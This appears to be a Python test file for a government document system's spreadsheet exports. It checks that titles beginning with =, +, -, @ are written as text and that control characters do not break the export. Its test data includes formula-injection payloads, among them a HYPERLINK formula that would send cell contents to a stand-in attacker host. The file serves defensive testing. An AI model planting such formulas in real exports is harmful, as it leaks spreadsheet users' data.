"""Exports neutralise what users typed (issue 12): a title starting with `=`, `+`, `-`, `@` is
written as text, never as a formula (Excel shows it as typed and keeps it text when edited), and
a control character that .xlsx cannot carry (a vertical tab pasted from Word, in data stored
before input was checked) no longer breaks the register export for everyone."""

from __future__ import annotations

import datetime as dt
import io
import json

import openpyxl
import pytest
from openpyxl import Workbook

from zhengwu import rules
from zhengwu.api.services import api_token_create
from zhengwu.documents import plans, registers
from zhengwu.documents.models import Document
from zhengwu.org.models import Person
from zhengwu.output.excel import safe_cell, safe_csv_field, workbook_bytes

DAY = dt.date(2026, 11, 2)
INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "=1+2", "+1+2", "-2+3", "@SUM(A1:A2)",
              "\t=1+2", "#N/A"]


def cells_of(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for row in wb.active.iter_rows() for c in row]


def test_safe_cell_writes_formula_prefixes_as_text_with_quote_prefix():
    wb = Workbook()
    wb.active.append([safe_cell(v) for v in INJECTIONS])
    found = {c.value: c for c in cells_of(workbook_bytes(wb)) if c.value is not None}
    for text in INJECTIONS:
        cell = found[text]  # the text exactly as typed, no apostrophe added
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.quotePrefix, text


def test_workbook_bytes_turns_a_formula_written_without_safe_cell_into_text():
    wb = Workbook()
    wb.active["A1"] = "=1+2"  # openpyxl would write a live formula
    assert wb.active["A1"].data_type == "f"
    (cell,) = [c for c in cells_of(workbook_bytes(wb)) if c.value is not None]
    assert cell.value == "=1+2" and cell.data_type == "s" and cell.quotePrefix


def test_ordinary_values_are_unchanged():
    wb = Workbook()
    wb.active.append([safe_cell(v) for v in ("关于资金的请示", "区政发〔2026〕1号", 42, DAY, None, "a\nb")])
    values = [c.value for c in cells_of(workbook_bytes(wb))]
    assert values[:3] == ["关于资金的请示", "区政发〔2026〕1号", 42]
    assert values[3].date() == DAY and values[4] is None and values[5] == "a\nb"
    assert not any(c.quotePrefix for c in cells_of(workbook_bytes(wb)))


def test_characters_xlsx_cannot_carry_are_replaced_not_fatal():
    assert safe_cell("关于\x0b资金\x00的请示") == "关于 资金 的请示"
    assert safe_cell("x\ud800") == "x\ufffd"
    wb = Workbook()
    wb.active.append([safe_cell("关于\x0b资金的请示")])
    assert [c.value for c in cells_of(workbook_bytes(wb))] == ["关于 资金的请示"]


def test_csv_fields_get_an_apostrophe_before_a_formula_prefix():
    assert safe_csv_field("=1+2") == "'=1+2"
    assert safe_csv_field("@x") == "'@x"
    assert safe_csv_field("正常") == "正常"
    assert safe_csv_field(3) == 3


def test_the_plan_counts_export_neutralises_a_unit_name():
    class U:
        name = "=1+2"

    row = plans.CountRow(unit=U(), plan=None, items=1, items_used=0, planned=0, unplanned=1)
    data = plans.counts_xlsx([row], year=2026, government_name="测试区人民政府", on=DAY)
    cell = next(c for c in cells_of(data) if c.value == "=1+2")
    assert cell.data_type == "s" and cell.quotePrefix


# ---- the 收文登记簿 through the web, on the demo government -------------------------------------------

@pytest.fixture(autouse=True)
def today(monkeypatch):
    monkeypatch.setattr(rules, "today", lambda: DAY)


@pytest.fixture(scope="module")
def demo_today():
    return DAY


@pytest.fixture
def registered(client, org_demo):
    """Documents of 教育局 in the 收文登记簿: formula-like titles drafted through the API (they are
    legitimate input), one with a vertical tab as data stored before input was checked holds it."""
    _token, key = api_token_create(actor=None, person=Person.objects.get(username="jyj"), name="测试")
    ids = []
    for n, title in enumerate(INJECTIONS[:5] + ["关于资金的请示"]):
        r = client.post("/api/v1/documents", json.dumps({"direction": "incoming", "kind": "请示", "title": title,
                                                         "main_recipients": ["区人民政府"]}),
                        content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {key}")
        assert r.status_code == 201, r.content.decode()
        ids.append(r.json()["id"])
        Document.objects.filter(pk=ids[-1]).update(intake_number=f"收〔2026〕{900 + n}号", submitted_on=DAY,
                                                   registered_on=DAY)
    Document.objects.filter(pk=ids[-1]).update(title="关于\x0b资金的请示")  # legacy data
    return ids


def test_the_incoming_register_exports_with_a_vertical_tab_and_formula_titles_as_text(client, registered):
    client.force_login(Person.objects.get(username="jyj"))
    r = client.get("/documents/registers/incoming/", {"format": "xlsx"})
    assert r.status_code == 200, r.content[:500]
    cells = cells_of(b"".join(r.streaming_content) if r.streaming else r.content)
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for title in INJECTIONS[:5]:
        assert texts[title].data_type == "s" and texts[title].quotePrefix, title
    assert "关于 资金的请示" in texts


def test_the_register_export_function_survives_every_control_character(registered):
    doc = Document.objects.select_related("unit").get(pk=registered[-1])
    doc.title = "".join(chr(c) for c in range(32)) + "\x7f标题"
    data = registers.export_xlsx(registers.INCOMING, [doc], government_name="测试区人民政府",
                                 filters=registers.Filters(), on=DAY)
    assert any(isinstance(c.value, str) and c.value.endswith("标题") for c in cells_of(data))
